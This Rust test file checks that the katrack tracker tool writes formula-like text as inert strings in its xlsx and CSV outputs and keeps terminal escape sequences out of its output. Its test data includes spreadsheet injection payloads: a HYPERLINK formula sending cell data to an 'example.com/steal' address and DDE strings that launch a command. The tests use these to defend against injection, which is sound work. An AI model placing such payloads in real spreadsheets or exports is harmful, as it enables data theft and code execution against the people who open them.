//! Nothing executes: text that starts like a formula (`=`, `+`, `-`, `@`, tab, carriage return)
//! stays text in every workbook katrack writes (tracker, annotated, template, summary): calamine
//! reads it back as that literal string and no sheet's XML has a `<f>` formula element. The CSV
//! katrack writes for spreadsheets does not become a formula when LibreOffice opens it (checked
//! headless), and still reads back to the identical tracker.

use crate::it::{Workdir, import_bytes, soffice};
use calamine::{Data, Reader, Xlsx};
use katrack::finding::{Finding, Severity};
use katrack::merge::LeadReturn;
use katrack::profile::Profile;
use katrack::read::{Cell, Row, Sheet};
use katrack::{Activity, Tracker, layout, write};
use std::collections::BTreeSet;
use std::io::{Cursor, Read};

/// Texts a spreadsheet program would run as a formula if they were typed or imported as values.
const RISKY: [&str; 10] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=HYPERLINK(\"http://example.com/steal?\"&A1,\"Click\")",
    "-2+3+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "@A1",
];

/// One activity per risky text, with that text in every field.
fn risky_tracker() -> Tracker {
    let mut t = Tracker::with_activities(
        RISKY
            .iter()
            .map(|text| {
                let mut a = Activity::default();
                for field in katrack::model::FIELDS {
                    *a.field_mut(field).unwrap() = text.to_string();
                }
                a
            })
            .collect(),
    );
    t.title = RISKY[0].into();
    t.organisation = RISKY[6].into();
    t.period = RISKY[3].into();
    t
}

fn risky_findings() -> Vec<Finding> {
    RISKY
        .iter()
        .enumerate()
        .map(|(i, text)| Finding {
            rule: "unrecognised-row".into(),
            severity: Severity::Warning,
            activity: Some(text.to_string()),
            field: Some("progress".into()),
            file: text.to_string(),
            sheet: "Q1".into(),
            cell: format!("B{}", i + 1),
            value: Some(text.to_string()),
            message: text.to_string(),
            suggestion: Some(text.to_string()),
        })
        .collect()
}

/// Every string cell, every formula and every `<f>` element of a workbook's sheets.
struct Contents {
    strings: BTreeSet<String>,
    formulas: Vec<String>,
    f_elements: Vec<String>,
}

fn contents(bytes: &[u8]) -> Contents {
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes.to_vec())).unwrap();
    let mut strings = BTreeSet::new();
    let mut formulas = Vec::new();
    for name in book.sheet_names() {
        let range = book.worksheet_range(&name).unwrap();
        for (_, _, value) in range.used_cells() {
            if let Data::String(s) = value {
                strings.insert(s.clone());
            }
        }
        let found = book.worksheet_formula(&name).unwrap();
        for (r, c, f) in found.used_cells() {
            if !f.is_empty() {
                formulas.push(format!(
                    "{name}!{}: {f}",
                    katrack::cellref::a1(r as u32, c as u32)
                ));
            }
        }
    }
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut f_elements = Vec::new();
    for i in 0..zip.len() {
        let mut entry = zip.by_index(i).unwrap();
        let name = entry.name().unwrap().to_string();
        if !name.starts_with("xl/worksheets/") {
            continue;
        }
        let mut xml = String::new();
        entry.read_to_string(&mut xml).unwrap();
        if xml.contains("<f>") || xml.contains("<f ") {
            f_elements.push(name);
        }
    }
    Contents {
        strings,
        formulas,
        f_elements,
    }
}

/// No formula anywhere, and each risky text is there as a literal string.
fn assert_text_only(what: &str, bytes: &[u8], expected: &[&str]) {
    let c = contents(bytes);
    assert!(c.formulas.is_empty(), "{what}: formulas {:?}", c.formulas);
    assert!(c.f_elements.is_empty(), "{what}: <f> in {:?}", c.f_elements);
    for text in expected {
        assert!(
            c.strings.contains(*text),
            "{what}: {text:?} is not a literal string cell"
        );
    }
}

#[test]
fn the_tracker_workbook_writes_text_as_text() {
    let bytes = write::tracker_workbook(&risky_tracker(), &Profile::default_profile()).unwrap();
    assert_text_only("tracker", &bytes, &RISKY);
}

#[test]
fn the_summary_workbook_writes_text_as_text() {
    let profile = Profile::default_profile();
    let t = risky_tracker();
    let mut previous = t.clone();
    for a in &mut previous.activities {
        a.status = "Green".into();
        a.lead = "Chief Officer - Governance".into();
    }
    let changes = katrack::diff::diff(&previous, &t, &profile);
    let returns: Vec<LeadReturn> = RISKY
        .iter()
        .map(|text| LeadReturn {
            lead: text.to_string(),
            expected: 1,
            returned: 0,
            missing: vec![text.to_string()],
            with_errors: 0,
            files: vec![text.to_string()],
        })
        .collect();
    let findings = risky_findings();
    let input = write::SummaryInput {
        tracker: &t,
        findings: &findings,
        returns: Some(&returns),
        changes: Some(&changes),
    };
    let bytes = write::summary_workbook(&input, &profile).unwrap();
    assert_text_only("summary", &bytes, &RISKY);
}

#[test]
fn the_template_writes_text_as_text() {
    let profile = Profile::default_profile();
    let t = risky_tracker();
    for (i, lead) in RISKY.iter().enumerate() {
        let bytes = write::template_workbook(lead, &t.activities, &profile, RISKY[i], false)
            .unwrap_or_else(|e| panic!("{lead:?}: {e}"));
        assert_text_only(&format!("template for {lead:?}"), &bytes, &RISKY);
    }
}

#[test]
fn the_annotated_workbook_writes_text_as_text() {
    let rows = RISKY
        .iter()
        .enumerate()
        .map(|(i, text)| Row {
            row: i as u32,
            cells: vec![
                Cell {
                    col: 0,
                    text: text.to_string(),
                    merged: false,
                },
                Cell {
                    col: 1,
                    text: text.to_string(),
                    merged: false,
                },
            ],
        })
        .collect();
    let sheet = Sheet {
        name: "Q1".into(),
        hidden: false,
        rows,
    };
    let bytes = write::annotated_workbook(&[sheet], &risky_findings(), RISKY[0]).unwrap();
    assert_text_only("annotated", &bytes, &RISKY);
}

// ---------------------------------------------------------------------------------------------
// CSV opened in LibreOffice.

/// A canonical tracker (cleaned, as katrack reads one) whose fields start like formulas.
fn canonical_risky_tracker() -> Tracker {
    let profile = Profile::default_profile();
    let mut t = risky_tracker();
    for (i, a) in t.activities.iter_mut().enumerate() {
        a.id = format!("KA.01.{:02}", i + 1);
        a.progress = format!("- Done\n{}", RISKY[i]);
        // A file or sheet name can start with "=" (but not with a tab: the source is trimmed).
        a.source = Some(katrack::Source {
            file: format!("{}.xlsx", RISKY[i].trim_start()),
            sheet: RISKY[(i + 1) % RISKY.len()].trim_start().into(),
            row: 3,
        });
        layout::clean_activity(a, &profile);
    }
    t
}

/// LibreOffice opens `csv` (UTF-8, comma, as a user would choose) and saves it as xlsx.
fn through_libreoffice(soffice: &std::path::Path, wd: &Workdir, csv: &[u8]) -> Vec<u8> {
    let csv = wd.write("t.csv", csv);
    let out = wd.soffice_convert_with(
        soffice,
        &["--infilter=Text - txt - csv (StarCalc):44,34,76,1"],
        "xlsx",
        &csv,
    );
    std::fs::read(wd.path("t.xlsx")).unwrap_or_else(|_| {
        panic!(
            "LibreOffice wrote no xlsx: {}",
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

#[test]
fn katracks_csv_opens_in_libreoffice_as_text_and_reads_back_identical() {
    let t = canonical_risky_tracker();
    let csv = write::to_csv(&t).unwrap();
    // katrack reads its own CSV back to the identical tracker (source included).
    assert_eq!(import_bytes(csv.clone(), "csv").activities, t.activities);

    let Some(soffice) = soffice() else {
        eprintln!("skipped: LibreOffice is not installed");
        return;
    };
    let wd = Workdir::new();
    let xlsx = through_libreoffice(&soffice, &wd, &csv);
    let c = contents(&xlsx);
    assert!(
        c.formulas.is_empty(),
        "LibreOffice made formulas: {:?}",
        c.formulas
    );
    assert!(c.f_elements.is_empty(), "<f> in {:?}", c.f_elements);
    // Each cell is the text katrack wrote, apostrophe included (LibreOffice keeps it as text);
    // only the source row numbers become numbers.
    let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_slice());
    for record in reader.records() {
        let record = record.unwrap();
        let texts = record
            .iter()
            .filter(|f| !f.is_empty() && f.parse::<f64>().is_err());
        for field in texts {
            let field = field.replace("\r\n", "\n").replace('\r', "\n");
            assert!(c.strings.contains(&field), "{field:?} is not a text cell");
        }
    }
    // And what LibreOffice saved reads back to the same tracker: the header is katrack's, so
    // the apostrophes are removed again.
    assert_eq!(import_bytes(xlsx, "xlsx").activities, t.activities);
}

#[test]
fn without_the_apostrophe_libreoffice_would_run_the_formulas() {
    // The control experiment: the same cells written plainly become formulas, so the test above
    // would notice if the apostrophe stopped working.
    let Some(soffice) = soffice() else {
        eprintln!("skipped: LibreOffice is not installed");
        return;
    };
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(["id", "title"]).unwrap();
    writer.write_record(["KA.01.01", "=1+1"]).unwrap();
    writer
        .write_record(["KA.01.02", "=cmd|' /C calc'!A0"])
        .unwrap();
    let plain = writer.into_inner().unwrap();
    let wd = Workdir::new();
    let c = contents(&through_libreoffice(&soffice, &wd, &plain));
    assert_eq!(c.formulas.len(), 2, "{:?}", c.formulas);
}

#[test]
fn the_findings_csv_does_not_hand_formulas_to_a_spreadsheet() {
    // The officer's value reaches the CSV, escaped.
    let wd = Workdir::new();
    wd.write(
        "r.csv",
        "Key Activities,Status,Progress\nKA.01.01 Plan,=HYPERLINK(\"http://x\"),- Done\n",
    );
    let out = wd
        .katrack()
        .args(["check", "r.csv", "--format", "csv"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(
        text.contains("'=HYPERLINK"),
        "the status is reported, escaped: {text}"
    );
    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
    for record in reader.records() {
        for field in record.unwrap().iter() {
            // An apostrophe first is the escape itself: the spreadsheet shows the text after it.
            assert!(
                field.starts_with('\'')
                    || !field.starts_with(katrack::write::canonical::FORMULA_STARTS),
                "{field:?} would be a formula in a spreadsheet"
            );
        }
    }
}

#[test]
fn no_escape_sequence_from_a_file_reaches_the_terminal() {
    // A cell can hold an escape sequence (ESC [ 31 m colours a terminal; others set its title or
    // clipboard). The tracker reads control characters as spaces, and messages that quote a
    // value as written show them as \u{1b}.
    let wd = Workdir::new();
    wd.write(
        "esc.csv",
        "Key Activities,Status,Progress\nKA.01.01 Plan,Gr\u{1b}[31meen,- Done \u{1b}]0;title\u{7}\n",
    );
    for args in [
        &["check", "esc.csv"][..],
        &["import", "esc.csv"],
        &["import", "--explain", "esc.csv"],
    ] {
        let out = wd.katrack().args(args).output().unwrap();
        assert!(!out.stdout.contains(&0x1b), "{args:?}: stdout");
        assert!(!out.stderr.contains(&0x1b), "{args:?}: stderr");
        assert!(!out.stdout.contains(&0x07), "{args:?}: stdout");
    }
}
